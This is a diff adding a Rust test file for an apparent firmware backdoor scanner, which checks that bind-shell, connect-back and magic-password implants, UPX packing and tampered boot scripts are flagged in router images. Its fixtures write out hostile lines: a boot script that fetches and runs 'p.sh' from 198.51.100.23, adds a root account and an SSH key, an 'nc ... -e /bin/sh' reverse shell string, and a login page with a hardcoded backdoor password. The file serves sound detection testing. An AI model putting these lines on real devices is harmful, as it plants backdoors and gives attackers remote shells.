@@ -1,0 +1,516 @@
+//! Behaviour, boot model, provenance and web UI checks, on real cross-compiled implants
+//! (tests/implants: C source, build.sh, the stripped binaries) packed into squashfs images
+//! with a stock-looking tree, and on hand-written ELF files for the cases no compiler here
+//! produces (Go, UPX).
+
+mod common;
+
+use common::*;
+use netvet_analyze::behaviour::{self, Behaviour, Cap, Linkage};
+use netvet_analyze::Analyzer;
+use netvet_model::{kinds, Finding, Severity};
+use std::path::Path;
+
+const IMPLANTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/implants/bin");
+const ARCHES: &[&str] = &["mips", "mipsel", "arm", "aarch64", "x86_64"];
+
+fn implant(name: &str) -> Vec<u8> {
+    std::fs::read(Path::new(IMPLANTS).join(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
+}
+
+fn verdict_kinds(path: &str, data: &[u8]) -> Vec<(&'static str, Severity, String)> {
+    let p = behaviour::profile(path, data).unwrap_or_else(|| panic!("{path}: not profiled"));
+    behaviour::judge(&p)
+        .into_iter()
+        .map(|v| (v.kind, v.severity, v.evidence))
+        .collect()
+}
+
+#[test]
+fn every_implant_on_every_arch_static_and_dynamic() {
+    for arch in ARCHES {
+        for link in ["static", "dynamic"] {
+            if *arch == "x86_64" && link == "static" {
+                // the x86 stub reader only sees `mov eax, imm` / `push imm; pop rax` next to
+                // the trap; this build moves the numbers through other registers (known
+                // limit, docs/backdoors.md)
+                continue;
+            }
+            let name = format!("bindshell-{arch}-{link}");
+            let data = implant(&name);
+            let p = behaviour::profile(&name, &data).unwrap();
+            let want = if link == "static" {
+                Linkage::Static
+            } else {
+                Linkage::Dynamic
+            };
+            assert_eq!(p.linkage, want, "{name}");
+            for c in [
+                Cap::Socket,
+                Cap::Bind,
+                Cap::Listen,
+                Cap::Accept,
+                Cap::Dup,
+                Cap::Exec,
+            ] {
+                assert!(p.has(c), "{name}: missing {c:?}: {:?}", p.caps);
+            }
+            let v = verdict_kinds(&name, &data);
+            assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{name}: {v:?}");
+            assert_eq!(v[0].1, Severity::High, "{name}");
+            if link == "static" {
+                assert!(v[0].2.contains("syscall"), "{name}: {}", v[0].2);
+            } else {
+                assert!(v[0].2.contains("imports socket"), "{name}: {}", v[0].2);
+            }
+            assert!(v[0].2.contains("\"/bin/sh\""), "{name}: {}", v[0].2);
+
+            let name = format!("connectback-{arch}-{link}");
+            let data = implant(&name);
+            let v = verdict_kinds(&name, &data);
+            assert_eq!(v[0].0, kinds::BACKDOOR_CONNECT_BACK, "{name}: {v:?}");
+            assert_eq!(v[0].1, Severity::High, "{name}");
+            assert!(v[0].2.contains("203.0.113.7"), "{name}: {}", v[0].2);
+            assert!(
+                v[0].2.contains("update.c2.example.net"),
+                "{name}: {}",
+                v[0].2
+            );
+            let ind: Vec<_> = v
+                .iter()
+                .filter(|x| x.0 == kinds::INDICATOR_NETWORK)
+                .collect();
+            assert_eq!(ind.len(), 1, "{name}: {v:?}");
+            assert_eq!(ind[0].1, Severity::Info);
+
+            let name = format!("magicauth-{arch}-{link}");
+            let data = implant(&name);
+            let v = verdict_kinds(&name, &data);
+            assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS, "{name}: {v:?}");
+            assert_eq!(v[0].1, Severity::High, "{name}");
+            assert!(v[0].2.contains("\"Password:\""), "{name}: {}", v[0].2);
+            assert_eq!(v.len(), 1, "{name}: {v:?}");
+        }
+    }
+}
+
+#[test]
+fn static_syscall_numbers_named_per_arch() {
+    // the connect syscall number of each ABI, found in the stub
+    for (arch, nr) in [
+        ("mips", 4170),
+        ("mipsel", 4170),
+        ("arm", 283),
+        ("aarch64", 203),
+        ("x86_64", 42),
+    ] {
+        let data = implant(&format!("connectback-{arch}-static"));
+        let caps = behaviour::syscall_caps(&data);
+        let ev = caps
+            .get(&Cap::Connect)
+            .unwrap_or_else(|| panic!("{arch}: {caps:?}"));
+        assert!(
+            ev.starts_with(&format!("syscall {nr} (connect)")),
+            "{arch}: {ev}"
+        );
+        assert!(!caps.contains_key(&Cap::Listen), "{arch}: {caps:?}");
+    }
+}
+
+fn spec(imports: Vec<&'static str>, extra: &[u8]) -> Vec<u8> {
+    build_elf(&ElfSpec {
+        imports,
+        extra: extra.to_vec(),
+        ..Default::default()
+    })
+}
+
+#[test]
+fn legitimate_daemons_are_not_backdoors() {
+    // SSH-like server: listens, dup2, exec shell, but authenticates
+    let sshd = spec(
+        vec![
+            "socket", "bind", "listen", "accept", "dup2", "execv", "crypt", "getspnam",
+        ],
+        b"/bin/sh\0Password:\0",
+    );
+    assert!(verdict_kinds("usr/sbin/dropbear", &sshd).is_empty());
+    // telnetd: listens, forks /bin/login (no shell string, no password prompt of its own)
+    let telnetd = spec(
+        vec!["socket", "bind", "listen", "accept", "dup2", "execv"],
+        b"/bin/login\0",
+    );
+    assert!(verdict_kinds("usr/sbin/telnetd", &telnetd).is_empty());
+    // a web server running CGI: no dup2 of the socket
+    let httpd = spec(
+        vec!["socket", "bind", "listen", "accept", "execve", "fork"],
+        b"/bin/sh\0/www\0",
+    );
+    assert!(verdict_kinds("usr/sbin/httpd", &httpd).is_empty());
+    // a client with private addresses and benign URLs only
+    let client = spec(
+        vec!["socket", "connect"],
+        b"http://www.openssl.org/\0192.168.1.1\0kernel 2.6.36.4\0",
+    );
+    assert!(verdict_kinds("usr/bin/ntpclient", &client).is_empty());
+}
+
+#[test]
+fn busybox_is_identified_not_skipped() {
+    let stock = spec(
+        vec!["socket", "bind", "listen", "accept", "connect", "dup2", "execvp"],
+        b"BusyBox v1.30.1 (2020-01-01)\0http://www.busybox.net/\0[\0[[\0ash\0nc\0telnetd\0\0/bin/sh\0",
+    );
+    let p = behaviour::profile("bin/busybox", &stock).unwrap();
+    let bb = p.busybox.as_ref().unwrap();
+    assert_eq!(bb.version, "1.30.1");
+    assert_eq!(bb.applets, 5);
+    assert!(
+        behaviour::judge(&p).is_empty(),
+        "{:?}",
+        behaviour::judge(&p)
+    );
+
+    let modified = spec(
+        vec!["socket", "bind", "listen", "accept", "connect", "dup2", "execvp"],
+        b"BusyBox v1.30.1 (2020-01-01)\0[\0[[\0ash\0nc\0\0/bin/sh\0nc 198.51.100.23 4444 -e /bin/sh\0",
+    );
+    let v = verdict_kinds("bin/busybox", &modified);
+    assert_eq!(v.len(), 1, "{v:?}");
+    assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS);
+    assert_eq!(v[0].1, Severity::Medium);
+    assert!(v[0].2.contains("198.51.100.23"), "{}", v[0].2);
+    assert!(v[0].2.contains("\"-e /bin/sh\""), "{}", v[0].2);
+}
+
+#[test]
+fn go_binaries_by_package_symbols() {
+    let go = spec(
+        vec![],
+        b"\xff Go buildinf:\0runtime.main\0net.(*TCPListener).Accept\0os/exec.(*Cmd).Start\0syscall.Dup2\0/bin/sh\0",
+    );
+    let p = behaviour::profile("usr/bin/agent", &go).unwrap();
+    assert_eq!(p.linkage, Linkage::Go);
+    let v = verdict_kinds("usr/bin/agent", &go);
+    assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{v:?}");
+    assert_eq!(v[0].1, Severity::Medium);
+    assert!(
+        v[0].2.contains("Go symbol net.(*TCPListener).Accept"),
+        "{}",
+        v[0].2
+    );
+    // a Go web server that runs commands is not a bind shell
+    let web = spec(
+        vec![],
+        b"\xff Go buildinf:\0net.(*TCPListener).Accept\0os/exec.(*Cmd).Start\0net/http.(*Server).Serve\0/bin/sh\0",
+    );
+    assert!(verdict_kinds("usr/bin/webd", &web).is_empty());
+}
+
+#[test]
+fn upx_packed_is_flagged() {
+    // l_info {checksum, "UPX!", lsize, version 13, format 12 (ELF/386... any)}, p_info
+    let mut extra = vec![0u8; 4];
+    extra.extend(b"UPX!");
+    extra.extend([0x1c, 0x0a, 13, 12]);
+    extra.extend([0, 0, 0, 0]);
+    extra.extend(123_456u32.to_le_bytes());
+    extra.extend(123_456u32.to_le_bytes());
+    extra.extend(vec![0xa5; 64]);
+    extra.extend(b"UPX!");
+    let packed = spec(vec![], &extra);
+    let v = verdict_kinds("usr/bin/packed", &packed);
+    assert_eq!(v.len(), 1, "{v:?}");
+    assert_eq!(v[0].0, kinds::BINARY_PACKED);
+    assert_eq!(v[0].1, Severity::Medium);
+    assert!(v[0].2.contains("version 13"), "{}", v[0].2);
+    assert!(v[0].2.contains("unpacked size 123456 bytes"), "{}", v[0].2);
+    assert!(v[0].2.contains("not unpacked"), "{}", v[0].2);
+}
+
+/// A stock-looking OpenWrt-style root: BusyBox, an init script, package lists, a web UI.
+fn stock_root(dir: &Path) {
+    let bb = spec(
+        vec![
+            "socket", "bind", "listen", "accept", "connect", "dup2", "execvp",
+        ],
+        b"BusyBox v1.30.1 (2020-01-01)\0[\0[[\0ash\0nc\0telnetd\0\0/bin/sh\0",
+    );
+    let dropbear = spec(
+        vec![
+            "socket", "bind", "listen", "accept", "dup2", "execv", "crypt", "getspnam",
+        ],
+        b"/bin/sh\0Password:\0",
+    );
+    let w = |rel: &str, d: &[u8]| netvet_testkit::write_file(dir, rel, d);
+    w("bin/busybox", &bb);
+    w("usr/sbin/dropbear", &dropbear);
+    w(
+        "etc/inittab",
+        b"::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n",
+    );
+    w(
+        "etc/init.d/rcS",
+        b"#!/bin/sh\nfor i in /etc/rc.d/S*; do $i start; done\n/usr/sbin/dropbear -p 22 &\n",
+    );
+    w("etc/passwd", b"root:x:0:0:root:/root:/bin/ash\n");
+    w(
+        "usr/lib/opkg/info/busybox.list",
+        b"/bin/busybox\n/etc/inittab\n/etc/init.d/rcS\n",
+    );
+    w(
+        "usr/lib/opkg/info/dropbear.list",
+        b"/usr/sbin/dropbear\t0755\n",
+    );
+    w(
+        "www/login.html",
+        b"<html><head><script src=\"/js/util.js\"></script><script src=\"https://code.jquery.com/jquery.min.js\"></script></head>\n<form><input type=\"password\" name=\"pwd\"></form></html>\n",
+    );
+    w("etc/crontabs/root", b"0 3 * * * /sbin/logread -c\n");
+}
+
+fn image(dir: &Path) -> netvet_unpack::Tree {
+    let img = netvet_testkit::pack_squashfs(
+        dir,
+        &netvet_testkit::SquashOpts::like_mksquashfs_xz(1_600_000_000),
+    )
+    .expect("pack squashfs");
+    netvet_unpack::Unpacker::new(netvet_unpack::Limits::default())
+        .unpack_bytes(bytes::Bytes::from(img))
+}
+
+fn by_kind<'a>(f: &'a [Finding], kind: &str) -> Vec<&'a Finding> {
+    f.iter().filter(|x| x.kind == kind).collect()
+}
+
+fn all_findings(t: &netvet_unpack::Tree) -> Vec<Finding> {
+    let rules = netvet_rules::RuleSet::embedded();
+    let options = netvet_analyze::Options::default();
+    let a = netvet_analyze::Analyzers::new(&rules).unwrap();
+    a.run(&netvet_analyze::Context {
+        tree: t,
+        rules: &rules,
+        options: &options,
+    })
+    .findings
+}
+
+fn severe_backdoors(f: &[Finding]) -> Vec<&Finding> {
+    f.iter()
+        .filter(|x| x.kind.starts_with("backdoor.") && x.severity >= Severity::High)
+        .collect()
+}
+
+#[test]
+fn stock_image_has_no_behaviour_findings() {
+    let dir = tempfile::tempdir().unwrap();
+    stock_root(dir.path());
+    let t = image(dir.path());
+    let out = run(&Behaviour::new(), &t);
+    let noisy: Vec<_> = out
+        .findings
+        .iter()
+        .filter(|f| {
+            f.kind.starts_with("backdoor.")
+                || f.kind.starts_with("boot.")
+                || f.kind.starts_with("web.")
+        })
+        .collect();
+    assert!(noisy.is_empty(), "{noisy:#?}");
+    let all = all_findings(&t);
+    assert!(
+        severe_backdoors(&all).is_empty(),
+        "{:#?}",
+        severe_backdoors(&all)
+    );
+    let s = &out.summaries[0].1;
+    assert_eq!(s["package_lists"], 2);
+    assert_eq!(s["unowned_executables"], 0);
+    assert_eq!(s["busybox_builds"][0], "1.30.1 (5 applets)");
+}
+
+#[test]
+fn implanted_image_names_every_implant() {
+    for arch in ["mips", "mipsel", "arm", "aarch64"] {
+        let dir = tempfile::tempdir().unwrap();
+        stock_root(dir.path());
+        let w = |rel: &str, d: &[u8]| netvet_testkit::write_file(dir.path(), rel, d);
+        w(
+            "usr/bin/dbgsvc",
+            &implant(&format!("bindshell-{arch}-static")),
+        );
+        w(
+            "usr/sbin/updated",
+            &implant(&format!("connectback-{arch}-dynamic")),
+        );
+        w(
+            "usr/sbin/mgmtd",
+            &implant(&format!("magicauth-{arch}-static")),
+        );
+        w(
+            "etc/init.d/rcS",
+            b"#!/bin/sh\n/usr/sbin/dropbear -p 22 &\n/etc/init.d/netfix start\n",
+        );
+        w(
+            "etc/init.d/netfix",
+            concat!(
+                "#!/bin/sh\n",
+                "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT\n",
+                "/usr/bin/dbgsvc &\n",
+                "wget http://198.51.100.23/p.sh -O /tmp/p.sh; chmod +x /tmp/p.sh; /tmp/p.sh\n",
+                "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd\n",
+                "echo 'ssh-ed25519 AAAAC3Nza implant' >> /etc/dropbear/authorized_keys\n",
+            )
+            .as_bytes(),
+        );
+        w("etc/crontabs/root", b"*/5 * * * * /usr/sbin/updated\n");
+        w(
+            "www/login.html",
+            b"<html><script src=\"http://198.51.100.23/k.js\"></script>\n<input type=\"password\" id=\"pwd\">\n<script>if (pwd.value == \"Adm1nBackd00r\") ok();</script></html>\n",
+        );
+        let t = image(dir.path());
+        let all = all_findings(&t);
+        let f = &all;
+        let bind = by_kind(f, kinds::BACKDOOR_BIND_SHELL);
+        assert_eq!(bind.len(), 1, "{arch}: {bind:#?}");
+        assert_eq!(bind[0].severity, Severity::Critical, "{arch}");
+        assert!(bind[0].path.as_deref().unwrap().ends_with("usr/bin/dbgsvc"));
+        assert!(
+            bind[0].evidence.contains("started at boot"),
+            "{}",
+            bind[0].evidence
+        );
+        assert!(
+            bind[0]
+                .evidence
+                .contains("no installed package lists this file"),
+            "{}",
+            bind[0].evidence
+        );
+
+        let cb = by_kind(f, kinds::BACKDOOR_CONNECT_BACK);
+        assert_eq!(cb.len(), 1, "{arch}: {cb:#?}");
+        assert_eq!(cb[0].severity, Severity::Critical, "{arch}");
+        assert!(
+            cb[0].evidence.contains("cron (") && cb[0].evidence.contains("etc/crontabs/root"),
+            "{}",
+            cb[0].evidence
+        );
+
+        let magic: Vec<_> = by_kind(f, kinds::BACKDOOR_SUSPICIOUS)
+            .into_iter()
+            .filter(|x| x.path.as_deref().unwrap().ends_with("usr/sbin/mgmtd"))
+            .collect();
+        assert_eq!(magic.len(), 1, "{arch}: {magic:#?}");
+        assert_eq!(magic[0].severity, Severity::High);
+
+        let boot = by_kind(f, kinds::BOOT_SUSPICIOUS);
+        let has = |needle: &str, sev: Severity| {
+            boot.iter()
+                .any(|b| b.title.contains(needle) && b.severity == sev)
+        };
+        assert!(has("opens the firewall", Severity::Medium), "{boot:#?}");
+        assert!(
+            has(
+                "downloads a program and runs it (/tmp/p.sh)",
+                Severity::High
+            ),
+            "{boot:#?}"
+        );
+        assert!(
+            has("uid-0 account into /etc/passwd", Severity::High),
+            "{boot:#?}"
+        );
+        assert!(
+            has("adds an SSH authorized key", Severity::High),
+            "{boot:#?}"
+        );
+        assert!(
+            has("starts dbgsvc (backdoor.bind-shell)", Severity::High),
+            "{boot:#?}"
+        );
+        assert!(
+            has("starts updated (backdoor.connect-back)", Severity::High),
+            "{boot:#?}"
+        );
+
+        let web = by_kind(f, kinds::WEB_SUSPICIOUS);
+        assert!(
+            web.iter().any(|w| w.severity == Severity::High
+                && w.evidence.contains("http://198.51.100.23/k.js")),
+            "{web:#?}"
+        );
+        assert!(
+            web.iter().any(|w| w.evidence.contains("'Adm1nBackd00r'")),
+            "{web:#?}"
+        );
+        // the stock parts stay quiet
+        assert!(
+            !f.iter().any(|x| x.kind.starts_with("backdoor.")
+                && x.path
+                    .as_deref()
+                    .is_some_and(|p| p.ends_with("dropbear") || p.ends_with("busybox"))),
+            "{arch}"
+        );
+        assert!(by_kind(f, kinds::INDICATOR_NETWORK)
+            .iter()
+            .any(|i| i.evidence.contains("198.51.100.23")));
+    }
+}
+
+#[test]
+fn boot_model_reads_cron_and_hotplug() {
+    let t = tree(vec![
+        file(
+            "etc/crontab",
+            0o644,
+            b"SHELL=/bin/sh\n*/10 * * * * root /usr/bin/check --all\n@reboot root /usr/bin/early\n",
+        ),
+        file(
+            "etc/hotplug.d/iface/99-x",
+            0o755,
+            b"#!/bin/sh\n[ \"$ACTION\" = ifup ] && /usr/bin/onup\n",
+        ),
+        file(
+            "etc/hotplug2.rules",
+            0o644,
+            b"SUBSYSTEM ~~ (net) {\n  exec /sbin/hotplug-call %SUBSYSTEM%\n}\n",
+        ),
+        file("usr/bin/check", 0o755, b"#!/bin/sh\n"),
+        file("usr/bin/early", 0o755, b"#!/bin/sh\n"),
+        file("usr/bin/onup", 0o755, b"#!/bin/sh\n"),
+    ]);
+    let m = netvet_analyze::boot::BootModel::build(&t);
+    let lines = m.lines();
+    let progs: Vec<&str> = lines.iter().map(|l| l.cmd.program.as_str()).collect();
+    assert!(progs.contains(&"/usr/bin/check"), "{progs:?}");
+    assert!(progs.contains(&"/usr/bin/early"), "{progs:?}");
+    assert!(progs.contains(&"/usr/bin/onup"), "{progs:?}");
+    assert!(progs.contains(&"/sbin/hotplug-call"), "{progs:?}");
+    let check = lines
+        .iter()
+        .find(|l| l.cmd.program == "/usr/bin/check")
+        .unwrap();
+    assert_eq!(check.cmd.args, vec!["--all"]);
+    assert_eq!(check.reason, "cron (etc/crontab)");
+    let started = m.started_programs(&t);
+    assert!(started.contains_key("usr/bin/early"), "{started:?}");
+}
+
+#[test]
+fn corpus_stock_images_carry_no_severe_backdoor() {
+    for rel in [
+        "rootfs/luxul-xbr4400/squashfs-root",
+        "rootfs/phicomm-k2p/squashfs-root",
+    ] {
+        let Some(t) = corpus_tree(rel) else { return };
+        let f = all_findings(&t);
+        let severe = severe_backdoors(&f);
+        assert!(severe.is_empty(), "{rel}: {severe:#?}");
+        let boot_high: Vec<_> = f
+            .iter()
+            .filter(|x| x.kind == kinds::BOOT_SUSPICIOUS && x.severity >= Severity::High)
+            .collect();
+        assert!(boot_high.is_empty(), "{rel}: {boot_high:#?}");
+    }
+}
